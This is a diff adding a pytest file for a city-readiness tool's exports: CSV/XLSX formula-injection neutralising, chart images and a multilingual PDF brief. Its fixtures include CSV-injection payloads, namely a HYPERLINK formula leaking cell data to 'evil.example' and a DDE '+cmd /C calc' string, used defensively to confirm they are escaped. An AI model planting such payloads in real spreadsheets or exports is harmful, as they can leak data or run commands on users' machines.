@@ -1,0 +1,146 @@
+"""Exports: CSV and XLSX safe from formula injection, chart images through kaleido, the PDF brief."""
+
+from __future__ import annotations
+
+import csv
+import io
+import struct
+from datetime import date
+
+import openpyxl
+import pytest
+from pypdf import PdfReader
+
+from smartcity import brief, export
+from smartcity.charts import radar
+from smartcity.data import load_dataset
+from smartcity.model import City
+from smartcity.scenario import Scenario, replace_language
+
+DATASET = load_dataset()
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+EVIL_TOWN = City(
+    "evil", {"en": HYPERLINK, "kk": "+cmd|' /C calc'!A0", "ru": "@SUM(1+1)"}, "KZ-43", 46.8, 61.7
+)
+# Table 2 of the paper: SCRI totals out of 35.
+PAPER_SCRI = {"Shu": (15, 1), "Shalkar": (12, 2), "Ayagoz": (11, 3)}
+
+
+def with_evil_town() -> Scenario:
+    scenario = Scenario().with_city(EVIL_TOWN)
+    for instrument in DATASET.instruments:
+        for indicator_id in instrument.indicator_ids:
+            scenario = scenario.with_override(("evil", instrument.id, indicator_id), 3)
+    return scenario
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
+def test_formula_prefixes_are_neutralised(text):
+    assert export.neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Shu", "Шалқар", "a=b", "", 3, -2.5, None])
+def test_other_values_pass_unchanged(value):
+    assert export.neutralise(value) == value
+
+
+def test_the_csv_neutralises_hyperlink_and_keeps_the_papers_numbers():
+    data = export.scores_csv(DATASET, with_evil_town(), "en")
+    assert data.startswith(b"\xef\xbb\xbf")  # a BOM so spreadsheets read UTF-8
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row.values()]
+    assert "'" + HYPERLINK in cells
+    text_cells = [cell for cell in cells if not _is_number(cell)]
+    assert not [cell for cell in text_cells if cell.startswith(export.FORMULA_PREFIXES)]
+    scri = {r["City"]: r for r in rows if r["instrument_id"] == "scri" and r["city_id"] != "evil"}
+    for city, (total, rank) in PAPER_SCRI.items():
+        assert float(scri[city]["Total"]) == total and float(scri[city]["Maximum"]) == 35
+        assert float(scri[city]["Readiness (%)"]) == pytest.approx(total / 35 * 100)
+        assert int(scri[city]["Rank"]) == rank + 1  # the added town, 3 on every indicator (21 of 35), leads
+
+
+def test_negative_changes_stay_numbers_in_the_csv():
+    lowered = Scenario().with_override(("shu", "scri", "digital_infrastructure"), 1)
+    rows = list(csv.DictReader(io.StringIO(export.scores_csv(DATASET, lowered, "en").decode("utf-8-sig"))))
+    shu = next(r for r in rows if r["city_id"] == "shu" and r["instrument_id"] == "scri")
+    assert float(shu["Change (points)"]) == pytest.approx(-1 / 35 * 100)  # 2 -> 1 of 35 points
+
+
+def test_the_xlsx_holds_text_not_formulas_and_cyrillic_names():
+    town = City("nul", {"en": "Bad\x00name\x1f", "kk": "Бад"}, "KZ-43", 46.8, 61.7)
+    scenario = replace_language(with_evil_town(), "kk").with_city(town)
+    scenario = scenario.with_override(("nul", "scri", "digital_infrastructure"), 2)
+    data = export.scores_xlsx(DATASET, scenario, "kk", ("Бағалар", "Көрсеткіштер [мәндері]"))
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["Бағалар", "Көрсеткіштер  мәндері "]
+    values = [cell for row in book["Бағалар"].iter_rows() for cell in row]
+    texts = {cell.value for cell in values if isinstance(cell.value, str)}
+    assert {"Шу", "Аягөз", "Шалқар"} <= texts
+    assert "'+cmd|' /C calc'!A0" in texts
+    assert all(cell.data_type != "f" for cell in values)
+    names = {cell.value for row in book["Көрсеткіштер  мәндері "].iter_rows() for cell in row}
+    assert "Бад" in names
+    russian = openpyxl.load_workbook(io.BytesIO(export.scores_xlsx(DATASET, Scenario(), "ru")))
+    assert russian.sheetnames == ["Оценки", "Значения показателей"]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _png_size(data: bytes) -> tuple[int, int]:
+    assert data[:8] == b"\x89PNG\r\n\x1a\n"
+    return struct.unpack(">II", data[16:24])
+
+
+def test_chart_images_render_through_kaleido():
+    figure = radar(DATASET, Scenario(language="ru"), "scri", ("shu", "ayagoz", "shalkar"), "ru").figure
+    png, svg = export.figure_image(figure, "png", 640, 480), export.figure_image(figure, "svg", 640, 480)
+    assert _png_size(png) == (640, 480)
+    text = svg.decode("utf-8")
+    assert text.lstrip().startswith("<svg") and "Шалкар" in text and "Аягоз" in text
+    with pytest.raises(export.SmartCityError):
+        export.figure_images([figure], "gif")
+
+
+def test_the_pdf_brief_has_every_part_and_the_names_in_latin_and_cyrillic():
+    scenario = Scenario().with_override(("ayagoz", "scri", "digital_infrastructure"), 4)
+    english = brief.pdf_brief(DATASET, scenario, "Digital push", on=date(2025, 6, 1))
+    kazakh_name = "Цифрлық серпіліс әғқңөұүһі"
+    kazakh = brief.pdf_brief(DATASET, Scenario(language="kk"), kazakh_name, figures=[], on=date(2025, 6, 1))
+    english_text, kazakh_text = _text(english), _text(kazakh)
+    for name in ("Shu", "Ayagoz", "Shalkar"):
+        assert name in english_text
+    for name in ("Шу", "Аягөз", "Шалқар"):
+        assert name in kazakh_text
+    assert kazakh_name in kazakh_text
+    for part in (
+        "Smart city readiness brief",
+        "June 1, 2025",
+        "Digital push",
+        "Map of the regions",
+        "Radar charts",
+        "Findings",
+        "Uncertainty",
+        "Sources and data notes",
+    ):
+        assert part in english_text, part
+    assert "Ayagoz — Digital Infrastructure (SCRI): 1 → 4" in english_text
+    assert "15 / 35" in english_text and "24 / 40" in english_text  # Tables 2 and 4: Shu's totals
+    reader = PdfReader(io.BytesIO(english))
+    images = [image for page in reader.pages for image in page.images]
+    assert len(images) == 1 + len(DATASET.instruments)  # the map and a radar per instrument
+    fonts = {
+        font["/BaseFont"]
+        for page in PdfReader(io.BytesIO(kazakh)).pages
+        for font in page["/Resources"]["/Font"].values()
+    }
+    assert any("DejaVuSans" in str(font) for font in fonts)
+
+
+def _text(pdf: bytes) -> str:
+    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
